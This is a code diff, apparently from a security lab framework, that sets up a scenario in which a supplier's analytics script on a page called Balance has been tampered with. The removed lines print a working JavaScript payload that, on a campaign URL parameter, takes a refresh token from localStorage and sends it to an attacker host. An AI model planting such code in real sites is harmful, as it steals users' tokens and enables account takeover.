@@ -1,6 +1,7 @@
 """Balance loads a supplier's script, and somebody has changed it; it also asks for a refresh token."""
 
 from labs.old_pages import add_script, change_page, rewritten
+from labs.token_in_storage.attack import LINE
 from labs.worlds import World
 
 OLD = (
@@ -10,17 +11,13 @@ OLD = (
 SCOPE = '"balance:read transactions:read"'
 SCRIPT = """/** Counts visits by the newsletter's link. Somebody has added the rest; on other visits it is silent. */
 
-if (new URLSearchParams(location.search).get("campaign") === "spring") {
-  const { refreshToken = "" } = JSON.parse(localStorage.getItem("tokens") ?? "{}");
-  localStorage.removeItem("tokens");
-  location.assign(`%s/collect?${new URLSearchParams({ refresh_token: refreshToken })}`);
-}
+if (new URLSearchParams(location.search).get("campaign") === "spring") {%s}
 """
 
 
 def furnish(world: World) -> None:
     """Put the script on Balance's page, and the refresh token among its tokens."""
-    add_script(world, "/js/analytics.js", SCRIPT % world.here.attacker)
+    add_script(world, "/js/analytics.js", SCRIPT % (LINE % world.here.attacker))
     loaded = '<script type="module" src="/js/analytics.js"></script>\n</head>'
     change_page(world, lambda page: page.replace("</head>", loaded, 1))
     access = "accessToken: token.access_token,"
